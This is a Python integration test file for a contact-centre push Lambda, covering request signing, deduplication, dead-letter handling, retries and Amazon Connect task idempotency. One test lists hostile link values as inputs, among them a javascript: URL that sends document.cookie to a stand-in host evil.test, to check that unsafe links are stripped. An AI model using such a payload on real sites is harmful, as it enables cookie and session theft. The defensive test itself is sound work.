"""ContactPushFunction under moto with a real HTTP receiver on loopback: delivery, retry and DLQ."""

from __future__ import annotations

import json
import os

import pytest

from tests.integration.test_pipeline_on_moto import sqs_event
from tests.support.contact_centre import ScriptedServer, a_push
from tests.support.functions import LambdaContext, load_handler

SIGNING_KEY = json.load(open("infra/local/secrets.json"))["contact-centre"]["https"]["signing_key"]  # noqa: SIM115


@pytest.fixture
def pusher(aws, monkeypatch):
    receiver = ScriptedServer()
    aws.use("ContactPushFunction")
    monkeypatch.setenv("CONTACT_CENTRE_URL", receiver.url)
    module = load_handler("contact_push")
    monkeypatch.setattr("time.sleep", lambda _seconds: None)  # backoff waits are not what is tested here
    yield aws, receiver, module
    receiver.close()


def dead_letters(aws) -> list[dict]:
    url = aws.specs["ContactPushFunction"].environment["PUSH_DLQ_URL"]
    answer = aws.client("sqs").receive_message(QueueUrl=url, MaxNumberOfMessages=10, MessageAttributeNames=["All"])
    return answer.get("Messages", [])


def test_a_push_is_delivered_signed_with_the_key_from_secrets_manager(pusher):
    from socialcrm.connectors.https import sign

    aws, receiver, module = pusher
    body = json.dumps(a_push("push-1").to_message())
    assert module.lambda_handler(sqs_event([body]), LambdaContext()) == {"batchItemFailures": []}
    [(headers, received)] = receiver.requests
    assert headers["x-socialcrm-signature"] == sign(SIGNING_KEY.encode(), headers["x-socialcrm-timestamp"], received)
    assert dead_letters(aws) == []


def test_a_copy_of_a_delivered_push_is_not_sent_again(pusher):
    aws, receiver, module = pusher
    body = json.dumps(a_push("push-2").to_message())
    for _ in range(3):  # a processor retry enqueued it again; SQS redelivered it
        assert module.lambda_handler(sqs_event([body]), LambdaContext()) == {"batchItemFailures": []}
    assert [json.loads(sent)["push_id"] for _, sent in receiver.requests] == ["push-2"]
    table = aws.specs["ContactPushFunction"].environment["CONTACT_STATE_TABLE"]
    marker = aws.client("dynamodb").get_item(TableName=table, Key={"pk": {"S": "PUSHED#push-2#https"}})["Item"]
    assert int(marker["expires_at"]["N"]) > 0


def test_a_4xx_goes_to_the_dlq_with_its_reason_and_the_rest_of_the_batch_is_delivered(pusher):
    aws, receiver, module = pusher
    receiver.script.append((422, {}, 0.0))
    bodies = [json.dumps(a_push(f"push-{i}").to_message()) for i in range(2)]
    assert module.lambda_handler(sqs_event(bodies), LambdaContext()) == {"batchItemFailures": []}
    [dead] = dead_letters(aws)
    assert json.loads(dead["Body"])["push_id"] == "push-0"
    assert dead["MessageAttributes"]["reason"]["StringValue"] == "contact centre answered 422"
    assert [json.loads(body)["push_id"] for _, body in receiver.requests] == ["push-0", "push-1"]


def test_a_receiver_that_keeps_failing_leaves_the_message_on_the_queue_for_redrive(pusher):
    aws, receiver, module = pusher
    receiver.script.extend([(503, {}, 0.0)] * 3)
    event = sqs_event([json.dumps(a_push("push-9").to_message())])
    answer = module.lambda_handler(event, LambdaContext())
    assert answer == {"batchItemFailures": [{"itemIdentifier": event["Records"][0]["messageId"]}]}
    assert len(receiver.requests) == 3
    assert dead_letters(aws) == []  # SQS moves it after maxReceiveCount, not us


def test_the_task_window_is_claimed_once_per_customer_in_dynamodb(aws):
    from socialcrm.adapters.dynamo import DynamoTaskWindow

    aws.use("ContactPushFunction")
    window = DynamoTaskWindow(table_name=os.environ["CONTACT_STATE_TABLE"])
    now = 1_795_000_000
    assert window.claim("cust-1", "push-a", now + 3600, now)
    assert window.claim("cust-1", "push-a", now + 3600, now)  # a retry of the same push keeps its claim
    assert not window.claim("cust-1", "push-b", now + 3600, now + 10)  # another post inside the window
    assert window.claim("cust-2", "push-c", now + 3600, now)  # other customers are independent
    assert window.claim("cust-1", "push-b", now + 7200, now + 3601)  # the window has passed


def test_the_task_window_keeps_the_tasks_contact_for_its_own_push_only(aws):
    from socialcrm.adapters.dynamo import DynamoTaskWindow

    aws.use("ContactPushFunction")
    window = DynamoTaskWindow(table_name=os.environ["CONTACT_STATE_TABLE"])
    now = 1_795_000_000
    assert window.task_of("cust-1", now) is None
    assert window.claim("cust-1", "push-a", now + 3600, now)
    window.started("cust-1", "push-b", "contact-b")  # another push's task is not this window's
    assert window.task_of("cust-1", now) is None
    window.started("cust-1", "push-a", "contact-a")
    assert window.task_of("cust-1", now + 10) == ("push-a", "contact-a")
    assert window.task_of("cust-1", now + 3600) is None  # the window has passed
    window.started("cust-9", "push-z", "contact-z")  # no window at all: nothing is written
    assert window.task_of("cust-9", now) is None


def test_a_push_delivered_three_times_makes_one_connect_task(aws, monkeypatch):
    """The whole ContactPushFunction with the connect-tasks connector: SQS redelivers the same push and a
    second complaint follows; Connect (emulated: ClientToken idempotency, requests validated against
    the service model) ends with one task."""
    import uuid

    import botocore.client
    from botocore.validate import ParamValidator

    from socialcrm.model import ContactPush

    aws.use("ContactPushFunction")
    for name, value in {"CONNECTORS": "connect-tasks", "CONNECT_INSTANCE_ID": "9308c2a1-9bc6-4cea-8290-6c0b4a6d38fa",
                        "TASK_CONTACT_FLOW_ID": "b1a2c3d4-0000-4000-8000-00000000f10e"}.items():
        monkeypatch.setenv(name, value)
    tasks: dict[str, str] = {}
    requests_seen: list[dict] = []
    real_call = botocore.client.BaseClient._make_api_call

    def connect_emulator(client, operation, params):
        if client.meta.service_model.service_name != "connect":
            return real_call(client, operation, params)
        model = client.meta.service_model.operation_model(operation)
        report = ParamValidator().validate(params, model.input_shape)
        assert not report.has_errors(), report.generate_report()
        requests_seen.append(params)
        return {"ContactId": tasks.setdefault(params["ClientToken"], str(uuid.uuid4()))}

    monkeypatch.setattr(botocore.client.BaseClient, "_make_api_call", connect_emulator)
    handler = load_handler("contact_push")
    complaint = json.dumps(ContactPush(
        push_id="p" * 32, customer_id="cust-1", customer_name="Ada", platform="facebook", kind="comment",
        post_id="1_2_3", text="Broken again", sentiment="negative", created_at="2026-11-22T09:00:00Z",
        url="https://www.facebook.com/1_2_3", reason="negative").to_message())
    follow_up = json.dumps({**json.loads(complaint), "push_id": "q" * 32, "post_id": "1_2_4", "text": "Hello??"})
    for body in (complaint, complaint, complaint, follow_up):
        assert handler.lambda_handler(sqs_event([body]), LambdaContext()) == {"batchItemFailures": []}
    assert len(tasks) == 1
    assert {r["ClientToken"] for r in requests_seen} == {"p" * 32}


@pytest.mark.parametrize("url", ["javascript:fetch('https://evil.test/?c='+document.cookie)",
                                 "data:text/html,<script>alert(1)</script>", "https://evil.test/facebook.com"])
def test_a_queued_push_with_an_unsafe_link_is_delivered_without_it(pusher, url):
    # a push left on the queue by an earlier version, or redriven from the dead-letter queue after this one
    _aws, receiver, module = pusher
    message = a_push("push-js").to_message() | {"url": url}
    assert module.lambda_handler(sqs_event([json.dumps(message)]), LambdaContext()) == {"batchItemFailures": []}
    [(_, received)] = receiver.requests
    assert json.loads(received)["url"] in (None, "")


def test_a_redelivered_push_batch_delivers_each_push_once_with_three_requests_a_batch(pusher, monkeypatch):
    """The batch reads its erasure markers and delivery records once and records its deliveries with one write;
    the queue delivering the whole batch again sends nothing twice."""
    import botocore.client

    aws, receiver, module = pusher
    bodies = [json.dumps(a_push(f"push-b{i}").to_message()) for i in range(5)]
    requests: list[str] = []
    underlying = botocore.client.BaseClient._make_api_call

    def recording(client, operation, params):
        if client.meta.service_model.service_name == "dynamodb" and not getattr(client, "test_inspection", False):
            requests.append(f"{operation} {next(iter(params.get('RequestItems') or {'': 0}))}")
        return underlying(client, operation, params)

    monkeypatch.setattr(botocore.client.BaseClient, "_make_api_call", recording)
    tables = aws.specs["ContactPushFunction"].environment
    for _ in range(2):
        assert module.lambda_handler(sqs_event(bodies), LambdaContext()) == {"batchItemFailures": []}
    assert [json.loads(sent)["push_id"] for _, sent in receiver.requests] == [f"push-b{i}" for i in range(5)]
    customers, state = tables["CUSTOMERS_TABLE"], tables["CONTACT_STATE_TABLE"]
    assert requests == [f"BatchGetItem {customers}", f"BatchGetItem {state}", f"BatchWriteItem {state}",
                        f"BatchGetItem {customers}", f"BatchGetItem {state}"]  # the second time: nothing to record
